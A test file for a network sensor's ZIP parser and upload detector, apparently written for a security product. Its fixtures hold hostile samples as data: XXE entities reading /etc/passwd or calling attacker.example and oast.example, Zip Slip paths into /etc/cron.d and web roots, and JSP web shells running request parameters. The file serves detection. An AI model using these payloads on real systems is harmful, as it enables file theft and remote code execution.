import fc from 'fast-check';
import { deflateRawSync } from 'node:zlib';
import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { MAX_ZIP_ENTRIES, readArchive, ZIP_ENTRY_HEAD_CHARS, zipEntries } from '@/runtime/analyzer/engine/zip-entries';
import { buildExchange } from '@/test/fixtures/traffic';
import { multipartUpload, zipArchive } from '@/test/fixtures/zip';

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const document = (prolog: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Q3 notes: &lt;script&gt; tags are escaped; see http://intranet.corp.local/wiki?page=1 and C:\\Users\\ann\\report.xlsx</w:t></w:r></w:p></w:body></w:document>`;
const docx = (prolog = '') =>
  zipArchive([
    { name: '[Content_Types].xml', content: CONTENT_TYPES },
    { name: '_rels/.rels', content: RELS },
    { name: 'word/document.xml', content: document(prolog) },
    {
      name: 'docProps/core.xml',
      content: '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>',
    },
  ]);

describe('ZIP entries read from the local headers', () => {
  it('names every entry and inflates the ones asked for, deflated, stored or streamed', () => {
    const archive = zipArchive([
      { name: 'a.xml', content: '<a>deflated</a>' },
      { name: 'b.txt', content: 'not asked for' },
      { name: 'c.xml', content: '<c>stored</c>', stored: true },
      { name: 'd.xml', content: '<d>streamed</d>', streamed: true },
      { name: 'e.xml', content: '<e>after a streamed one</e>' },
    ]);
    expect(zipEntries(archive, (name) => name.endsWith('.xml'))).toEqual([
      { name: 'a.xml', head: '<a>deflated</a>' },
      { name: 'b.txt' },
      { name: 'c.xml', head: '<c>stored</c>' },
      { name: 'd.xml', head: '<d>streamed</d>' },
      { name: 'e.xml', head: '<e>after a streamed one</e>' },
    ]);
  });

  it("reads the entries of a prefix (the sensor keeps an archive's start), the cut one as far as it goes", () => {
    const text = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>${'row '.repeat(20_000)}</r>`;
    const archive = zipArchive([
      { name: 'first.xml', content: '<f/>' },
      { name: 'big.xml', content: text },
      { name: 'never.xml', content: '<n/>' },
    ]);
    const entries = zipEntries(archive.subarray(0, 200), () => true);
    expect(entries.map((e) => e.name)).toEqual(['first.xml', 'big.xml']);
    expect(entries[1]!.head).toBe(text.slice(0, entries[1]!.head!.length));
    expect(entries[1]!.head).toContain('<!ENTITY x SYSTEM');
  });

  it('inflates only the head of a zip bomb and stops at MAX_ZIP_ENTRIES', () => {
    const bomb = zipArchive([{ name: 'bomb.xml', content: Buffer.alloc(20 * 1024 * 1024, 0x41) }]);
    const [entry] = zipEntries(bomb, () => true);
    expect(entry!.head!.length).toBe(ZIP_ENTRY_HEAD_CHARS);
    const many = zipArchive(Array.from({ length: MAX_ZIP_ENTRIES + 10 }, (_, i) => ({ name: `f${i}.xml`, content: '<x/>' })));
    expect(zipEntries(many, () => true)).toHaveLength(MAX_ZIP_ENTRIES);
  });

  it('never throws and stays bounded on damaged or hostile bytes', () => {
    const header = Buffer.from('PK\u0003\u0004', 'latin1');
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 600 }), fc.nat({ max: 3 }), (tail, copies) => {
        const bytes = Buffer.concat([
          header,
          Buffer.from(tail),
          ...Array.from({ length: copies }, () => Buffer.concat([header, deflateRawSync(Buffer.from(tail))])),
        ]);
        const entries = zipEntries(bytes, () => true);
        expect(entries.length).toBeLessThanOrEqual(MAX_ZIP_ENTRIES);
        for (const entry of entries) expect(entry.head?.length ?? 0).toBeLessThanOrEqual(ZIP_ENTRY_HEAD_CHARS);
      }),
      { numRuns: 300 },
    );
  });

  it('gives the prologs that declare something, server pages, and names that leave the folder', () => {
    expect(readArchive(docx())).toEqual({ escapingNames: [], texts: [] });
    const reading = readArchive(
      zipArchive([
        { name: 'word/document.xml', content: document('<!DOCTYPE d [<!ENTITY e SYSTEM "http://attacker.example/">]>') },
        { name: 'index.jsp', content: '<% out.println("hi"); %>' },
        { name: '../../../../etc/cron.d/job', content: '* * * * * root sh -c id' },
        { name: '/tmp/x', content: 'x' },
        { name: 'docs/..hidden/ok.txt', content: 'x' },
      ]),
    );
    expect(reading.texts).toEqual([
      {
        entry: 'word/document.xml',
        text: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<!DOCTYPE d [<!ENTITY e SYSTEM "http://attacker.example/">]>',
      },
      { entry: 'index.jsp', text: '<% out.println("hi"); %>' },
    ]);
    expect(reading.escapingNames).toEqual(['../../../../etc/cron.d/job', '/tmp/x']);
  });
});

describe('archives uploaded in a form', () => {
  const engine = createAnalysisEngine({ catalog: false });
  const matches = (file: string, archive: Buffer, type = 'application/octet-stream'): string[] =>
    engine
      .analyze(
        buildExchange({
          method: 'POST',
          target: '/api/documents',
          requestHeaders: [['Content-Type', 'multipart/form-data; boundary=ZipBoundary']],
          requestBody: multipartUpload('file', file, type, archive),
        }),
        { sensorId: 's', sensorTags: [] },
      )
      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}:${m.parameter}`));

  it('finds an external entity in a Word or Excel document', () => {
    expect(matches('cv.docx', docx('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))).toContain('Xxe@upload:file (cv.docx!/word/document.xml)');
    const sheet = zipArchive([
      {
        name: '[Content_Types].xml',
        content: CONTENT_TYPES.replace('?>', '?><!DOCTYPE t [<!ENTITY % d SYSTEM "http://oast.example/x.dtd"> %d;]>'),
        streamed: true,
      },
    ]);
    expect(matches('budget.xlsx', sheet, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')).toContain(
      'Xxe@upload:file (budget.xlsx!/[Content_Types].xml)',
    );
  });

  it('finds Zip Slip entry names and a web shell in a WAR', () => {
    const slip = zipArchive([
      { name: 'readme.txt', content: 'backup' },
      { name: '../../../../../var/www/html/s.php', content: '<?php echo 1; ?>' },
    ]);
    expect(matches('backup.zip', slip)).toContain('PathTraversal@multipart_filename:file (backup.zip)');
    const war = zipArchive([
      { name: 'META-INF/MANIFEST.MF', content: 'Manifest-Version: 1.0\r\n' },
      { name: 'WEB-INF/web.xml', content: '<?xml version="1.0"?><web-app version="3.1"/>' },
      { name: 'help.jsp', content: '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>' },
    ]);
    expect(matches('update.zip', war)).toContain('MaliciousUpload@upload:file (update.zip!/help.jsp)');
  });

  it('reads an archive sent as the body itself, whatever its label (a WAR deployed with PUT, a mailbox import)', () => {
    const shell = zipArchive([
      {
        name: '../../../../opt/zimbra/jetty/webapps/zimbra/public/x.jsp',
        content: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        stored: true,
      },
    ]);
    const bodyMatches = (type: string) =>
      engine
        .analyze(
          buildExchange({
            method: 'POST',
            target: '/service/extension/backup/mboximport?account-name=admin',
            requestHeaders: [['Content-Type', type]],
            requestBody: shell,
          }),
          { sensorId: 's', sensorTags: [] },
        )
        .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
        .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
    for (const type of ['application/x-www-form-urlencoded', 'application/zip', 'application/octet-stream'])
      expect({ type, matches: bodyMatches(type) }).toEqual({
        type,
        matches: expect.arrayContaining(['PathTraversal@multipart_filename', 'MaliciousUpload@upload']),
      });
  });

  it('leaves ordinary documents and archives alone', () => {
    expect(matches('report.docx', docx())).toEqual([]);
    const jar = zipArchive([
      { name: 'META-INF/MANIFEST.MF', content: 'Manifest-Version: 1.0\r\nMain-Class: com.example.App\r\n' },
      {
        name: 'META-INF/maven/com.example/app/pom.xml',
        content: '<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion></project>',
      },
      { name: 'com/example/App.class', content: Buffer.from('cafebabe0000003d', 'hex') },
      { name: 'index.jsp', content: '<%@ page contentType="text/html" %><html><body><h1>Welcome <%= request.getRemoteUser() %></h1></body></html>' },
    ]);
    expect(matches('app-1.4.2.jar', jar, 'application/java-archive')).toEqual([]);
    const photos = zipArchive([
      { name: 'Holiday 2026/IMG_0001.jpg', content: Buffer.from('ffd8ffe000104a464946', 'hex') },
      { name: 'Holiday 2026/notes (1).txt', content: 'Beach, then dinner at 8' },
    ]);
    expect(matches('photos.zip', photos, 'application/zip')).toEqual([]);
    // A WordPress theme is PHP throughout: its code is not read as injected code
    const theme = zipArchive([
      { name: 'child-theme/style.css', content: '/* Theme Name: Child */' },
      {
        name: 'child-theme/functions.php',
        content:
          "<?php\nadd_action('wp_enqueue_scripts', function () { wp_enqueue_style('parent', get_template_directory_uri() . '/style.css'); });\nif (isset($_GET['preview'])) { echo esc_html($_GET['preview']); }\n",
      },
    ]);
    expect(matches('child-theme.zip', theme, 'application/zip')).toEqual([]);
  });
});
